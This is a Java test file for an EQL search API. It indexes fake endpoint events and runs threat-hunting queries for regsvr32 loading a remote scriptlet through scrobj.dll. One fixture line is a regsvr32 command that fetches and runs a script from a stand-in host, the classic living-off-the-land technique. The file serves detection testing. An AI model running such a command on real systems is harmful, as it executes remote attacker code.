package io.lampyr.restapi.eql;

import static org.assertj.core.api.Assertions.assertThat;

import io.lampyr.restapi.exchange.Method;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * A hunt for a program that loads scripts from elsewhere, as the language's guide goes about it.
 */
class ThreatExampleTest {
  private static final String DOCUMENTS =
      """
      process|start|explorer.exe|100|C:\\\\Windows\\\\explorer.exe||
      process|start|regsvr32.exe|2012|regsvr32.exe  /s /u /i:https://far.example/a.sct scrobj.dll||
      library||regsvr32.exe|2012||C:\\\\Windows\\\\System32\\\\ntdll.dll|
      library||regsvr32.exe|2012||C:\\\\Windows\\\\System32\\\\scrobj.dll|
      network||regsvr32.exe|2012|||151.101.48.133
      network||chrome.exe|300|||10.1.2.3
      process|end|regsvr32.exe|2012|||
      process|start|REGSVR32.EXE|2013|REGSVR32.EXE /s local.dll||
      """;

  private static void index(EqlNode node) {
    String keyword = "{\"type\":\"keyword\"}";
    node.sent(
        200,
        Method.PUT,
        "/hunt-1",
        "{\"mappings\":{\"properties\":{\"@timestamp\":{\"type\":\"date\"},\"event.category\":"
            + keyword
            + ",\"event.type\":"
            + keyword
            + ",\"process.name\":"
            + keyword
            + ",\"process.pid\":{\"type\":\"long\"},\"process.command_line\":{\"type\":"
            + "\"wildcard\"},\"dll.path\":"
            + keyword
            + ",\"destination.address\":{\"type\":\"ip\"}}}}");
    StringBuilder bulk = new StringBuilder();
    List<String> rows = DOCUMENTS.lines().toList();
    for (int i = 0; i < rows.size(); i++) {
      String[] cells = rows.get(i).split("\\|", -1);
      bulk.append("{\"index\":{\"_id\":\"").append(i + 1).append("\"}}\n{\"@timestamp\":\"2024-");
      bulk.append("05-01T10:00:0").append(i).append(".123Z\",\"event.category\":\"");
      bulk.append(cells[0]).append("\",\"process\":{\"name\":\"").append(cells[2]);
      bulk.append("\",\"pid\":").append(cells[3]).append('}');
      String[] names = {"event.type", "process.command_line", "dll.path", "destination.address"};
      String[] values = {cells[1], cells[4], cells[5], cells[6]};
      for (int name = 0; name < names.length; name++) {
        if (!values[name].isEmpty()) {
          bulk.append(",\"").append(names[name]).append("\":\"").append(values[name]).append('"');
        }
      }
      bulk.append("}\n");
    }
    node.sent(200, Method.POST, "/hunt-1/_bulk?refresh=true", bulk.toString());
    node.sent(
        200, Method.PUT, "/elsewhere", "{\"mappings\":{\"properties\":{\"x\":" + keyword + "}}}");
  }

  private static String events(EqlNode node, String query) {
    return node.events("hunt-*,elsewhere", query, Map.of());
  }

  @Test
  void stepsOfTheHuntFindWhatIsLookedFor() {
    try (EqlNode node = new EqlNode()) {
      index(node);
      assertThat(events(node, "any where process.name == \"regsvr32.exe\"")).isEqualTo("2 3 4 5 7");
      assertThat(
              events(
                  node,
                  """
                  process where process.name : "regsvr32.exe"
                    and process.command_line != null
                  """))
          .isEqualTo("2 8");
      assertThat(
              events(
                  node,
                  """
                  process where event.type == "start" and process.name == "regsvr32.exe"
                    and stringContains~(process.command_line, "SCROBJ.dll")
                  """))
          .isEqualTo("2");
      assertThat(
              events(
                  node,
                  """
                  library where process.name == "regsvr32.exe"
                    and dll.path like "*\\\\System32\\\\scrobj.dll"
                  """))
          .isEqualTo("4");
      assertThat(
              events(
                  node,
                  """
                  network where not cidrMatch(destination.address, "10.0.0.0/8", "192.168.0.0/16")
                    and length(process.name) > 0
                  """))
          .isEqualTo("5");
    }
  }

  @Test
  void stepsOfTheHuntAreOneSequence() {
    try (EqlNode node = new EqlNode()) {
      index(node);
      assertThat(
              node.sequences(
                  "hunt-*,elsewhere",
                  """
                  sequence by process.pid with maxspan=1m
                    [process where process.name == "regsvr32.exe" and event.type == "start"]
                    [library where endsWith(dll.path, "scrobj.dll")]
                    [network where true]
                  until [process where event.type == "end"]
                  """,
                  Map.of()))
          .containsExactly("[2012]:2 4 5");
    }
  }

  @Test
  void shardsThatFailAreDoneWithoutOnlyIfThatIsWanted() {
    try (EqlNode node = new EqlNode()) {
      index(node);
      node.sent(
          200,
          Method.PUT,
          "/hunt-2",
          """
          {"mappings": {"properties": {"@timestamp": {"type": "date"},
            "dll.path": {"type": "date"}, "event.category": {"type": "keyword"}}}}
          """);
      var _ =
          node.sent(
              201,
              Method.PUT,
              "/hunt-2/_doc/1?refresh=true",
              "{\"@timestamp\":\"2024-05-01\",\"event.category\":\"process\"}");
      Map<String, Object> filter =
          Map.of("filter", Map.of("range", Map.of("dll.path", Map.of("gt", "C:\\"))));
      String query = "any where true";
      String sequence = "sequence by event.category [any where true] [any where true]";
      assertThat(node.events("hunt-*", query, filter)).isEqualTo("3 4");
      String target = "/hunt-*/_eql/search";
      assertThat(node.sent(200, Method.POST, target, EqlNode.body(query, filter)))
          .contains("\"is_partial\":true", "\"shard_failures\":[{\"shard\":0,\"index\":\"hunt-2\"");
      assertThat(node.sequences("hunt-*", sequence, filter)).isEmpty();
      String allowed = target + "?allow_partial_sequence_results=true";
      assertThat(node.sent(200, Method.POST, allowed, EqlNode.body(sequence, filter)))
          .contains("\"join_keys\":[\"library\"]", "\"is_partial\":true");
      String whole = target + "?allow_partial_search_results=false";
      assertThat(node.sent(400, Method.POST, whole, EqlNode.body(query, filter)))
          .contains("search_phase_execution_exception");
    }
  }
}
